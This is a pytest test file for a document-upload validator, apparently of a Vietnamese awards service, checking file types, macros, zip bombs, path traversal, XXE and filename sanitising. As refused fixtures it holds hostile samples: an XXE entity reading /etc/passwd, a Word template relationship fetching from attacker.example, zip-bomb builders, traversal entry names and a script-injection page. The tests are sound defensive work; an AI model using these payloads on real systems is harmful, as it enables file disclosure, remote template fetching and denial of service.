"""Upload checks: DOC-1 size, DOC-2 types, DOC-3 zip pre-flight, DOC-4 XML, DOC-6 names."""

from __future__ import annotations

import hashlib
import io
import re
import struct
import time
import tracemalloc
import unicodedata
import zipfile
import zlib
from collections.abc import Callable

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as RT

from service.documents.uploads import (
    DOCX_TYPE,
    XLSX_TYPE,
    CheckedUpload,
    UploadRejected,
    check_upload,
    display_name,
    make_object_key,
)
from storage.base import validate_key

MiB = 1024 * 1024
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
TEMPLATE_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://attacker.example/t.dotm" TargetMode="%s"/></Relationships>'
)


# -- builders ------------------------------------------------------------------------------------


def make_docx(text: str = "Báo cáo thành tích năm 2024", *, hyperlink: str | None = None) -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    if hyperlink:
        document.part.relate_to(hyperlink, RT.HYPERLINK, is_external=True)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


DOCX = make_docx()


def rezip(
    data: bytes,
    *,
    replace: dict[str, bytes] | None = None,
    add: dict[str, bytes] | None = None,
    drop: tuple[str, ...] = (),
) -> bytes:
    """A copy of the archive with some parts replaced, added or removed."""
    replace = replace or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            if info.filename in drop:
                continue
            dst.writestr(info.filename, replace.get(info.filename, src.read(info)))
        for name, body in (add or {}).items():
            dst.writestr(zipfile.ZipInfo(name), body, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def patch_entry(
    data: bytes, name: str, *, flags: int = 0, size: int | None = None, csize: int | None = None
) -> bytes:
    """Edit an entry's header fields in place, in both of its headers: what a hostile tool can
    write and a normal library never would."""
    buf = bytearray(data)
    raw = name.encode()
    pos = buf.find(b"PK\x01\x02")
    while pos >= 0:
        name_len = struct.unpack_from("<H", buf, pos + 28)[0]
        if bytes(buf[pos + 46 : pos + 46 + name_len]) == raw:
            local = struct.unpack_from("<L", buf, pos + 42)[0]
            # (header, offset of flags, offset of the uncompressed size) in each header
            for header, flags_at, size_at in ((pos, 8, 24), (local, 6, 22)):
                old_flags = struct.unpack_from("<H", buf, header + flags_at)[0]
                struct.pack_into("<H", buf, header + flags_at, old_flags | flags)
                if size is not None:
                    struct.pack_into("<L", buf, header + size_at, size)
                if csize is not None:
                    struct.pack_into("<L", buf, header + size_at - 4, csize)
            return bytes(buf)
        pos = buf.find(b"PK\x01\x02", pos + 4)
    raise AssertionError(f"{name} not in archive")


def claim_sizes(data: bytes, names: tuple[str, ...], size: int) -> bytes:
    """Make each named entry claim `size` bytes at a modest compression ratio."""
    for name in names:
        data = patch_entry(data, name, size=size, csize=size // 45)
    return data


def with_main_type(main_type: str) -> bytes:
    """The docx with its main part declared as another content type (a renamed .docm)."""
    with zipfile.ZipFile(io.BytesIO(DOCX)) as archive:
        text = archive.read("[Content_Types].xml")
    docx_main = (DOCX_TYPE + ".main+xml").encode()
    assert docx_main in text
    return rezip(DOCX, replace={"[Content_Types].xml": text.replace(docx_main, main_type.encode())})


def make_pdf(extra_header: bytes = b"") -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    out = bytearray(b"%PDF-1.7\n" + extra_header + b"%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 4\n0000000000 65535 f \n"
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def make_png() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\x00"))
        + chunk(b"IEND", b"")
    )


def make_jpeg() -> bytes:
    app0 = b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return b"\xff\xd8\xff\xe0" + struct.pack(">H", len(app0) + 2) + app0 + b"\xff\xd9"


def make_xlsx(main_type: str = XLSX_TYPE + ".main+xml") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
            'package/2006/content-types"><Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
            f'ContentType="{main_type}"/></Types>',
        )
        archive.writestr(
            "_rels/.rels",
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http:'
            '//schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/workbook.xml",
            '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats'
            '.org/spreadsheetml/2006/main"><sheets/></workbook>',
        )
    return out.getvalue()


def plain_zip(count: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for index in range(count):
            archive.writestr(f"part{index}.xml", b"<a/>")
    return out.getvalue()


def zeros_entry(data: bytes, name: str, mebibytes: int, level: int = 1) -> bytes:
    """`data` with `name` replaced by streamed zeros: the archive is built without ever holding
    the expanded bytes."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as dst,
    ):
        for info in src.infolist():
            if info.filename != name:
                dst.writestr(info.filename, src.read(info))
        with dst.open(name, "w") as stream:
            block = bytes(MiB)
            for _ in range(mebibytes):
                stream.write(block)
    return out.getvalue()


# -- accepted ------------------------------------------------------------------------------------

GOOD = [
    pytest.param("Báo cáo thành tích.docx", lambda: DOCX, "docx", DOCX_TYPE, id="docx"),
    pytest.param(
        "Tờ trình.DOCX",
        lambda: make_docx(hyperlink="https://thiduakhenthuong.gov.vn/van-ban"),
        "docx",
        DOCX_TYPE,
        id="docx-external-hyperlink",
    ),
    pytest.param("Quyết định.pdf", make_pdf, "pdf", "application/pdf", id="pdf"),
    pytest.param("Danh sách.xlsx", make_xlsx, "xlsx", XLSX_TYPE, id="xlsx"),
    pytest.param("ảnh.png", make_png, "png", "image/png", id="png"),
    pytest.param("ảnh.jpg", make_jpeg, "jpg", "image/jpeg", id="jpg"),
    pytest.param("ảnh.jpeg", make_jpeg, "jpeg", "image/jpeg", id="jpeg"),
]


@pytest.mark.parametrize(("filename", "build", "extension", "content_type"), GOOD)
def test_accepts_allowed_types(
    filename: str, build: Callable[[], bytes], extension: str, content_type: str
) -> None:
    data = build()
    checked = check_upload(filename, data)
    assert checked == CheckedUpload(
        display_name=unicodedata.normalize("NFC", filename),
        extension=extension,
        content_type=content_type,
        size=len(data),
        sha256=hashlib.sha256(data).hexdigest(),
    )


# -- refused -------------------------------------------------------------------------------------

HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
XXE = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
    b']>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"
)
SPLIT_DOCTYPE = b'<?xml version="1.0"?>' + b" " * (65536 - 21 - 4) + b"<!DOCTYPE x []><x/>"


def settings_rels(mode: bytes, target: bytes = b"http://attacker.example/t.dotm") -> bytes:
    return (TEMPLATE_RELS % mode).replace(b"http://attacker.example/t.dotm", target)


REFUSED = [
    # DOC-1
    pytest.param("big.pdf", lambda: make_pdf() + b" " * (30 * MiB), 413, "too_large", id="30MiB"),
    # DOC-2: extension, magic and structure must agree
    pytest.param("x.html", lambda: HTML, 415, "unsupported_type", id="html"),
    pytest.param("x.docm", lambda: DOCX, 415, "unsupported_type", id="docm-extension"),
    pytest.param("x", lambda: DOCX, 415, "unsupported_type", id="no-extension"),
    pytest.param("x.docx", lambda: HTML, 415, "type_mismatch", id="html-as-docx"),
    pytest.param("x.docx", make_pdf, 415, "type_mismatch", id="pdf-as-docx"),
    pytest.param("x.pdf", lambda: DOCX, 415, "type_mismatch", id="docx-as-pdf"),
    pytest.param("x.pdf", lambda: HTML, 415, "type_mismatch", id="html-as-pdf"),
    pytest.param("x.png", make_jpeg, 415, "type_mismatch", id="jpeg-as-png"),
    pytest.param("x.docx", lambda: plain_zip(3), 415, "type_mismatch", id="zip-as-docx"),
    pytest.param("x.xlsx", lambda: DOCX, 415, "type_mismatch", id="docx-as-xlsx"),
    pytest.param(
        "x.docx",
        lambda: with_main_type(MACRO_TYPE),
        415,
        "macro",
        id="docm-renamed",
    ),
    pytest.param(
        "x.docx",
        lambda: rezip(DOCX, add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        415,
        "macro",
        id="vbaProject.bin",
    ),
    pytest.param(
        "x.xlsx",
        lambda: make_xlsx("application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        415,
        "macro",
        id="xlsm-renamed",
    ),
    pytest.param(
        "x.docx",
        lambda: rezip(DOCX, drop=("word/document.xml",)),
        415,
        "type_mismatch",
        id="no-main-part",
    ),
    pytest.param("x.pdf", lambda: make_pdf() + plain_zip(1), 415, "polyglot", id="pdf+zip"),
    pytest.param(
        "x.pdf",
        lambda: make_pdf(b"%<html><script>alert(1)</script>\n"),
        415,
        "polyglot",
        id="pdf+html",
    ),
    pytest.param("x.png", lambda: make_png() + plain_zip(1), 415, "polyglot", id="png+zip"),
    pytest.param("x.pdf", lambda: make_pdf()[:-8], 422, "corrupt", id="pdf-truncated"),
    pytest.param("x.pdf", lambda: b"", 422, "empty", id="empty"),
    # DOC-3: zip pre-flight
    pytest.param("x.docx", lambda: plain_zip(2001), 422, "zip_too_many_entries", id="2001-entries"),
    pytest.param(
        "x.docx",
        lambda: rezip(DOCX, add={"../evil.xml": b"<a/>"}),
        422,
        "zip_bad_name",
        id="dotdot",
    ),
    pytest.param(
        "x.docx", lambda: rezip(DOCX, add={"/etc/x.xml": b"<a/>"}), 422, "zip_bad_name", id="abs"
    ),
    pytest.param(
        "x.docx",
        lambda: rezip(DOCX, add={"word\\..\\x.xml": b"<a/>"}),
        422,
        "zip_bad_name",
        id="backslash",
    ),
    pytest.param(
        "x.docx", lambda: rezip(DOCX, add={"C:/x.xml": b"<a/>"}), 422, "zip_bad_name", id="drive"
    ),
    pytest.param(
        "x.docx",
        lambda: rezip(DOCX, add={"WORD/DOCUMENT.XML": b"<a/>"}),
        422,
        "zip_bad_name",
        id="duplicate-name",
    ),
    pytest.param(
        "x.docx",
        lambda: patch_entry(DOCX, "word/document.xml", flags=0x1),
        422,
        "zip_encrypted",
        id="encrypted-flag",
    ),
    pytest.param(
        "x.docx",
        lambda: zeros_entry(DOCX, "word/media/blank.bin", 10, level=9),
        422,
        "zip_ratio",
        id="ratio-1000",
    ),
    pytest.param(
        "x.docx",
        lambda: claim_sizes(
            DOCX,
            (
                "word/styles.xml",
                "word/numbering.xml",
                "word/settings.xml",
                "word/fontTable.xml",
                "word/webSettings.xml",
            ),
            45 * MiB,
        ),
        422,
        "zip_too_large",
        id="total-over-200MiB",
    ),
    pytest.param(
        "x.docx",
        lambda: patch_entry(DOCX, "word/styles.xml", size=10),
        422,
        "corrupt",
        id="size-lies",
    ),
    pytest.param("x.docx", lambda: DOCX[:-30], 422, "corrupt", id="truncated"),
    pytest.param("x.docx", lambda: DOCX + b"<html>", 422, "corrupt", id="trailing-data"),
    # DOC-4: no DOCTYPE, no external relationships
    pytest.param(
        "x.docx",
        lambda: rezip(DOCX, replace={"word/document.xml": XXE}),
        422,
        "xml_doctype",
        id="xxe",
    ),
    pytest.param(
        "x.docx",
        lambda: rezip(DOCX, replace={"word/styles.xml": SPLIT_DOCTYPE}),
        422,
        "xml_doctype",
        id="doctype-across-chunks",
    ),
    pytest.param(
        "x.docx",
        lambda: rezip(DOCX, replace={"word/document.xml": XXE.decode().encode("utf-16")}),
        422,
        "xml_encoding",
        id="utf16-doctype",
    ),
    pytest.param(
        "x.docx",
        lambda: rezip(DOCX, replace={"word/document.xml": XXE.replace(b"UTF-8", b"UTF-7", 1)}),
        422,
        "xml_encoding",
        id="utf7-declared",
    ),
    pytest.param(
        "x.docx",
        lambda: rezip(DOCX, add={"word/_rels/settings.xml.rels": settings_rels(b"External")}),
        422,
        "external_relationship",
        id="attachedTemplate",
    ),
    pytest.param(
        "x.docx",
        lambda: rezip(DOCX, add={"word/_rels/settings.xml.rels": settings_rels(b"&#69;xternal")}),
        422,
        "external_relationship",
        id="attachedTemplate-char-reference",
    ),
    pytest.param(
        "x.docx",
        lambda: rezip(
            DOCX,
            add={
                "word/_rels/settings.xml.rels": settings_rels(
                    b"External", b"http://attacker.example/a>b.dotm"
                )
            },
        ),
        422,
        "external_relationship",
        id="attachedTemplate-gt-in-value",
    ),
]


@pytest.mark.parametrize(("filename", "build", "status", "code"), REFUSED)
def test_refuses(filename: str, build: Callable[[], bytes], status: int, code: str) -> None:
    data = build()
    with pytest.raises(UploadRejected) as caught:
        check_upload(filename, data)
    assert (caught.value.http_status, caught.value.code) == (status, code)
    assert not caught.value.message.isascii()  # a Vietnamese sentence for the user


def test_size_limit_is_a_parameter() -> None:
    data = make_pdf()
    check_upload("x.pdf", data, max_bytes=len(data))
    with pytest.raises(UploadRejected) as caught:
        check_upload("x.pdf", data, max_bytes=len(data) - 1)
    assert caught.value.http_status == 413


# -- DOC-3: bombs are refused fast and without expanding them ------------------------------------


@pytest.fixture(scope="module")
def gigabyte_bomb() -> bytes:
    """A docx whose document.xml expands to 1 GiB of zeros, honestly declared."""
    return zeros_entry(DOCX, "word/document.xml", 1024)


def _refusal_cost(filename: str, data: bytes) -> tuple[UploadRejected, float, int]:
    started = time.perf_counter()
    with pytest.raises(UploadRejected) as caught:
        check_upload(filename, data)
    elapsed = time.perf_counter() - started
    tracemalloc.start()
    try:
        with pytest.raises(UploadRejected):
            check_upload(filename, data)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return caught.value, elapsed, peak


def test_gigabyte_bomb_refused_fast_and_small(gigabyte_bomb: bytes) -> None:
    assert len(gigabyte_bomb) < 20 * MiB
    rejected, elapsed, peak = _refusal_cost("bomb.docx", gigabyte_bomb)
    assert (rejected.http_status, rejected.code) == (422, "zip_too_large")
    assert elapsed < 1.0
    assert peak < 100 * MiB


def test_bomb_with_lying_header_caught_while_streaming(gigabyte_bomb: bytes) -> None:
    # The header claims 10 kB: the central directory checks pass, the stream must not.
    liar = patch_entry(gigabyte_bomb, "word/document.xml", size=10_000)
    rejected, elapsed, peak = _refusal_cost("bomb.docx", liar)
    assert (rejected.http_status, rejected.code) == (422, "corrupt")
    assert elapsed < 1.0
    assert peak < 100 * MiB


def test_too_many_entries_refused_before_parsing() -> None:
    rejected, elapsed, peak = _refusal_cost("many.docx", plain_zip(20_000))
    assert rejected.code == "zip_too_many_entries"
    assert elapsed < 1.0
    assert peak < 10 * MiB


def test_package_parts_are_held_one_at_a_time() -> None:
    # 150 relationship parts of 1 MiB each: within every limit, so the file is accepted, but
    # holding them all at once would take 150 MiB.
    rels = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    )
    rels += b" " * (MiB - len(rels) - 16) + b"</Relationships>"
    data = rezip(DOCX, add={f"customXml/_rels/part{i}.xml.rels": rels for i in range(150)})
    assert len(data) < 20 * MiB
    tracemalloc.start()
    try:
        check_upload("many-parts.docx", data)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 100 * MiB


# -- DOC-6: display names ------------------------------------------------------------------------

VIETNAMESE = "Báo cáo thành tích.docx"


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("../../x", "x"),
        (VIETNAMESE, VIETNAMESE),
        (unicodedata.normalize("NFD", VIETNAMESE), VIETNAMESE),
        ("a\x00.html", "a.html"),
        ("审批.docx", "审批.docx"),
        ("C:\\Users\\lan\\Tờ trình.docx", "Tờ trình.docx"),
        ("..\\..\\boot.ini", "boot.ini"),
        ("  Quyết định  khen thưởng.pdf \n", "Quyết định  khen thưởng.pdf"),
        ("\u202egpj.exe", "gpj.exe"),
        ("", "tai-lieu"),
        ("../", "tai-lieu"),
        ("..", "tai-lieu"),
        ("\x00\x01", "tai-lieu"),
    ],
)
def test_display_name(raw: str, expected: str) -> None:
    name = display_name(raw)
    assert name == expected
    assert unicodedata.is_normalized("NFC", name)


def test_display_name_truncates_keeping_the_extension() -> None:
    name = display_name("Thành tích " + "ệ" * 300 + ".docx")
    assert len(name) == 200
    assert name.endswith("ệ.docx")


def test_display_name_does_not_split_a_combining_sequence() -> None:
    # "x" + acute has no precomposed form, so NFC keeps two code points.
    name = display_name("y" + "x\u0301" * 150 + ".pdf")
    assert len(name) == 199
    assert name.endswith("x\u0301.pdf")


# -- object keys ---------------------------------------------------------------------------------


def test_make_object_key() -> None:
    key = make_object_key(42, 7, 3, "docx")
    assert re.fullmatch(r"dossiers/000042/documents/000007/v0003-[0-9a-f]{32}\.docx", key)
    assert validate_key(key) == key
    assert make_object_key(42, 7, 3, ".DOCX") != key  # random part: never the same key twice


@pytest.mark.parametrize(
    "args",
    [(0, 1, 1, "pdf"), (1, -1, 1, "pdf"), (1, 1, True, "pdf"), (1, 1, 1, "../x"), (1, 1, 1, "")],
)
def test_make_object_key_refuses_bad_input(args: tuple[object, ...]) -> None:
    with pytest.raises(ValueError):
        make_object_key(*args)  # type: ignore[arg-type]
